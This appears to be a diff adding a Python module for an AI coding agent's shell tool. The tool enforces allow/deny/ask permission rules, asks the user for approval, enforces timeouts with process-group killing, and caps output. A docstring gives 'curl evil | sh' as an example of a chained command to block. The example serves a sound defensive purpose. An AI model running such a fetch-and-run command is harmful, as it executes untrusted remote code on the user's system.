@@ -1,0 +1,365 @@
+"""``exec_shell``: run a shell command in the project, under a permission policy and a time limit.
+
+Three promises the model and the user rely on:
+
+- **Permission first.** ship.json ``permissions.execShell`` decides: a ``deny`` glob wins over
+  everything, an ``allow`` glob runs the command, otherwise ``mode`` applies (``ask`` by default,
+  which calls the ``on_approval`` callback; no callback means no). A refusal is a failed tool call
+  the model reads, never an exception.
+- **Nothing outlives its call.** The command runs in its own process group; on timeout the whole
+  group gets SIGTERM, then SIGKILL after a short grace, so a child that ignores SIGTERM (or a
+  forgotten ``&``) cannot linger.
+- **Bounded output.** stdout and stderr are each capped at 8 KB in the result (head and tail kept,
+  a marker between); the full output streams to ``.ship/outputs/<key>/`` and its location is
+  returned, so a 2 GB log never enters the model's context but is still there to read.
+"""
+
+from __future__ import annotations
+
+import codecs
+import contextlib
+import inspect
+import os
+import re
+import shutil
+import signal
+import subprocess
+import time
+import uuid
+from dataclasses import dataclass
+from fnmatch import fnmatchcase
+from pathlib import Path
+from typing import Annotated, Any, Literal
+
+import anyio
+import anyio.abc
+import anyio.to_thread
+from pydantic import Field
+
+from ..config import ExecShellPermission
+from ..execution import ApprovalCallback, ApprovalRequest, current_tool_context
+from ._common import failure
+
+__all__ = [
+    "OUTPUT_CAP_BYTES",
+    "ShellDecision",
+    "ShellRun",
+    "decide_exec_shell",
+    "exec_shell",
+    "request_approval",
+    "run_shell",
+]
+
+OUTPUT_CAP_BYTES = 8 * 1024
+"""stdout and stderr are each cut to this many bytes in the result (half head, half tail)."""
+TERM_GRACE_SECONDS = 1.0
+"""How long a process group gets between SIGTERM and SIGKILL."""
+
+# Control operators that start a new command. ``2>&1`` / ``&>`` are redirections, not operators.
+_OPERATORS = re.compile(r"\|\||&&|[;\n]|\|&?|(?<![<>])&(?!>)")
+# Substitutions run an arbitrary inner command; an allow glob cannot vouch for them.
+_SUBSTITUTION = re.compile(r"\$\(|`|<\(|>\(")
+
+
+@dataclass(frozen=True, slots=True)
+class ShellDecision:
+    """What the policy says about one command: ``allow``, ``deny`` or ``ask``, and why."""
+
+    action: Literal["allow", "deny", "ask"]
+    reason: str
+
+
+def decide_exec_shell(command: str, policy: ExecShellPermission) -> ShellDecision:
+    """Apply ``permissions.execShell`` to ``command`` (pure: no I/O, easy to test exhaustively).
+
+    Globs use :func:`fnmatch.fnmatchcase` against the whole command and against each part between
+    control operators (``;``, ``&&``, ``||``, ``|``, ``&``), so ``deny: ["rm *"]`` also stops
+    ``make && rm -rf build``. An allow glob runs a command only when *every* part matches an allow
+    glob and there is no ``$(...)`` or backtick substitution; ``allow: ["git status*"]`` must not
+    let ``git status; curl evil | sh`` through.
+    """
+    text = command.strip()
+    parts = [p.strip() for p in _OPERATORS.split(text) if p.strip()]
+    for pattern in policy.deny:
+        if any(fnmatchcase(candidate, pattern) for candidate in (text, *parts)):
+            return ShellDecision("deny", f"the command matches the deny pattern '{pattern}'")
+    if (
+        policy.allow
+        and parts
+        and not _SUBSTITUTION.search(text)
+        and all(any(fnmatchcase(part, pattern) for pattern in policy.allow) for part in parts)
+    ):
+        return ShellDecision("allow", "the command matches the allow patterns")
+    if policy.mode == "allow":
+        return ShellDecision("allow", "permissions.execShell.mode is 'allow'")
+    if policy.mode == "deny":
+        return ShellDecision("deny", "permissions.execShell.mode is 'deny' and no allow pattern matches")
+    return ShellDecision("ask", "permissions.execShell.mode is 'ask' and no allow pattern matches")
+
+
+def _is_async_callable(callback: Any) -> bool:
+    return inspect.iscoroutinefunction(callback) or inspect.iscoroutinefunction(
+        getattr(callback, "__call__", None)  # noqa: B004 - an object with an async __call__
+    )
+
+
+async def request_approval(callback: ApprovalCallback | None, request: ApprovalRequest) -> tuple[bool, str]:
+    """Ask ``callback`` whether ``request`` may proceed; ``(approved, reason)``.
+
+    An async callback is awaited; a sync one runs in a worker thread, so a callback that blocks on
+    the terminal (``input("Run? [y/N]")``) does not freeze every other chat. Only an explicit
+    ``True`` approves; a missing or failing callback denies.
+    """
+    if callback is None:
+        return False, "the command needs approval and no approval callback is configured"
+    try:
+        if _is_async_callable(callback):
+            answer: Any = await callback(request)  # type: ignore[misc]
+        else:
+            answer = await anyio.to_thread.run_sync(callback, request)
+            if inspect.isawaitable(answer):
+                answer = await answer
+    except Exception as exc:
+        return False, f"the approval callback failed ({type(exc).__name__}: {exc}); treated as refused"
+    if answer is True:
+        return True, "approved by the user"
+    return False, "the user refused to run this command"
+
+
+# ---------------------------------------------------------------------------------------------------
+# running
+
+
+class _Capture:
+    """Keeps the first and last ``cap/2`` bytes of a stream and counts the rest, in O(cap) memory."""
+
+    def __init__(self, cap: int = OUTPUT_CAP_BYTES) -> None:
+        self.half = cap // 2
+        self.cap = cap
+        self.head = bytearray()
+        self.tail = bytearray()
+        self.total = 0
+
+    def feed(self, chunk: bytes) -> None:
+        self.total += len(chunk)
+        if len(self.head) < self.half:
+            room = self.half - len(self.head)
+            self.head += chunk[:room]
+            chunk = chunk[room:]
+        if chunk:
+            self.tail += chunk
+            del self.tail[: max(0, len(self.tail) - self.half)]
+
+    @property
+    def truncated(self) -> bool:
+        return self.total > self.cap
+
+    def text(self, location: str | None) -> str:
+        head = codecs.getincrementaldecoder("utf-8")("replace").decode(bytes(self.head), final=False)
+        tail_bytes = bytes(self.tail)
+        if not self.truncated:
+            return (bytes(self.head) + tail_bytes).decode("utf-8", "replace")
+        # The tail may start inside a multi-byte character: skip its continuation bytes.
+        start = 0
+        while start < min(4, len(tail_bytes)) and 0x80 <= tail_bytes[start] <= 0xBF:
+            start += 1
+        omitted = self.total - len(self.head) - len(tail_bytes)
+        where = f"; full output: {location}" if location else ""
+        marker = f"\n[… {omitted} bytes omitted{where} …]\n"
+        return head + marker + tail_bytes[start:].decode("utf-8", "replace")
+
+
+@dataclass(frozen=True, slots=True)
+class ShellRun:
+    """The outcome of :func:`run_shell`.
+
+    Attributes:
+        exit_code: the shell's exit status; negative when killed by a signal (``-9``).
+        stdout: capped stdout (head + marker + tail when over the cap).
+        stderr: capped stderr.
+        truncated: True when either stream was over the cap.
+        timed_out: True when the time limit ended the command.
+        stdout_path: the full stdout on disk, or ``None`` when it was empty.
+        stderr_path: the full stderr on disk, or ``None`` when it was empty.
+        stray_killed: True when background processes still held the output open after the
+            shell exited and were killed.
+        duration_ms: wall time.
+    """
+
+    exit_code: int | None
+    stdout: str
+    stderr: str
+    truncated: bool
+    timed_out: bool
+    stdout_path: Path | None
+    stderr_path: Path | None
+    stray_killed: bool
+    duration_ms: int
+
+
+def _signal_group(pgid: int, sig: signal.Signals) -> None:
+    with contextlib.suppress(ProcessLookupError, PermissionError):  # the group is gone already
+        os.killpg(pgid, sig)
+
+
+async def _terminate_group(proc: anyio.abc.Process, grace: float) -> None:
+    """SIGTERM the group, wait up to ``grace``, then SIGKILL whatever of the group is left."""
+    _signal_group(proc.pid, signal.SIGTERM)
+    with anyio.move_on_after(grace):
+        await proc.wait()
+    _signal_group(proc.pid, signal.SIGKILL)  # children ignoring SIGTERM outlive their shell
+    await proc.wait()
+
+
+async def _pump(
+    stream: anyio.abc.ByteReceiveStream | None, path: Path, capture: _Capture, done: anyio.Event
+) -> None:
+    try:
+        if stream is None:
+            return
+        async with await anyio.open_file(path, "wb") as sink:
+            async for chunk in stream:
+                capture.feed(chunk)
+                await sink.write(chunk)
+    finally:
+        done.set()
+
+
+def _shell() -> str:
+    return shutil.which("bash") or "/bin/sh"
+
+
+async def run_shell(
+    command: str,
+    *,
+    cwd: Path,
+    time_limit: float,
+    output_dir: Path,
+    grace: float = TERM_GRACE_SECONDS,
+    cap: int = OUTPUT_CAP_BYTES,
+) -> ShellRun:
+    """Run ``command`` through the shell in its own process group without blocking the event loop.
+
+    Output streams to ``output_dir/<stem>.stdout|.stderr`` while only ``cap`` bytes per stream are
+    held in memory. Cancellation of the caller kills the group too.
+    """
+    await anyio.Path(output_dir).mkdir(parents=True, exist_ok=True)
+    stem = f"{time.strftime('%Y%m%dT%H%M%SZ', time.gmtime())}-{uuid.uuid4().hex[:8]}"
+    paths = (output_dir / f"{stem}.stdout", output_dir / f"{stem}.stderr")
+    captures = (_Capture(cap), _Capture(cap))
+    done = (anyio.Event(), anyio.Event())
+    started = time.monotonic()
+    timed_out = stray = False
+    proc = await anyio.open_process(
+        [_shell(), "-c", command],
+        cwd=cwd,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        start_new_session=True,
+    )
+    try:
+        async with anyio.create_task_group() as tg:
+            tg.start_soon(_pump, proc.stdout, paths[0], captures[0], done[0])
+            tg.start_soon(_pump, proc.stderr, paths[1], captures[1], done[1])
+            with anyio.move_on_after(time_limit) as limit:
+                await proc.wait()
+            if limit.cancelled_caught:
+                timed_out = True
+                await _terminate_group(proc, grace)
+            # Background children may still hold the pipes: give them a moment, then end them.
+            with anyio.move_on_after(grace) as drain:
+                await done[0].wait()
+                await done[1].wait()
+            if drain.cancelled_caught:
+                stray = not timed_out
+                _signal_group(proc.pid, signal.SIGKILL)
+                with anyio.move_on_after(grace) as last:
+                    await done[0].wait()
+                    await done[1].wait()
+                if last.cancelled_caught:  # something escaped the group (setsid) and kept the pipe
+                    tg.cancel_scope.cancel()
+    finally:
+        if proc.returncode is None:
+            with anyio.CancelScope(shield=True):
+                _signal_group(proc.pid, signal.SIGKILL)
+                await proc.wait()
+        with anyio.CancelScope(shield=True):
+            await proc.aclose()
+    kept: list[Path | None] = []
+    for path, capture in zip(paths, captures, strict=True):
+        if capture.total == 0:
+            path.unlink(missing_ok=True)
+            kept.append(None)
+        else:
+            kept.append(path)
+    return ShellRun(
+        exit_code=proc.returncode,
+        stdout=captures[0].text(str(kept[0]) if kept[0] else None),
+        stderr=captures[1].text(str(kept[1]) if kept[1] else None),
+        truncated=captures[0].truncated or captures[1].truncated,
+        timed_out=timed_out,
+        stdout_path=kept[0],
+        stderr_path=kept[1],
+        stray_killed=stray,
+        duration_ms=int((time.monotonic() - started) * 1000),
+    )
+
+
+def _shown(path: Path | None, root: Path) -> str | None:
+    if path is None:
+        return None
+    try:
+        return path.relative_to(root).as_posix()
+    except ValueError:
+        return str(path)
+
+
+async def exec_shell(
+    command: Annotated[str, Field(min_length=1, max_length=20000)],
+    timeoutMs: Annotated[int, Field(ge=1, le=600000)] = 30000,  # camelCase: the pinned tool schema
+) -> dict[str, Any]:
+    """Run a shell command in the project directory and return its exit code and output.
+
+    Output is capped (head and tail); the full output is saved and its path returned. Never run
+    destructive commands the user did not ask for. Some commands need the user's approval.
+
+    Args:
+        command: the command line, run with bash (or sh).
+        timeoutMs: time limit in milliseconds; the command and everything it started are killed then.
+    """
+    ctx = current_tool_context()
+    decision = decide_exec_shell(command, ctx.config.permissions.exec_shell)
+    if decision.action == "deny":
+        return failure(f"exec_shell denied: {decision.reason}", denied=True)
+    if decision.action == "ask":
+        request = ApprovalRequest("exec_shell", command, ctx.chat_key, ctx.request_id)
+        approved, reason = await request_approval(ctx.on_approval, request)
+        if not approved:
+            return failure(f"exec_shell denied: {reason}", denied=True)
+    try:
+        run = await run_shell(
+            command,
+            cwd=ctx.project_root,
+            time_limit=timeoutMs / 1000,
+            output_dir=ctx.paths.outputs_dir(ctx.chat_key),
+        )
+    except OSError as exc:
+        return failure(f"could not start the command: {exc}")
+    root = ctx.project_root
+    shown_out, shown_err = _shown(run.stdout_path, root), _shown(run.stderr_path, root)
+    result: dict[str, Any] = {
+        "success": run.exit_code == 0 and not run.timed_out,
+        "exitCode": run.exit_code,
+        "stdout": run.stdout if shown_out is None else run.stdout.replace(str(run.stdout_path), shown_out),
+        "stderr": run.stderr if shown_err is None else run.stderr.replace(str(run.stderr_path), shown_err),
+        "truncated": run.truncated,
+        "timedOut": run.timed_out,
+        "outputFiles": {"stdout": shown_out, "stderr": shown_err},
+        "durationMs": run.duration_ms,
+    }
+    if run.timed_out:
+        result["error"] = f"timed out after {timeoutMs} ms; the command and its children were killed"
+    if run.stray_killed:
+        result["note"] = "background processes still running after the command ended were killed"
+    return result
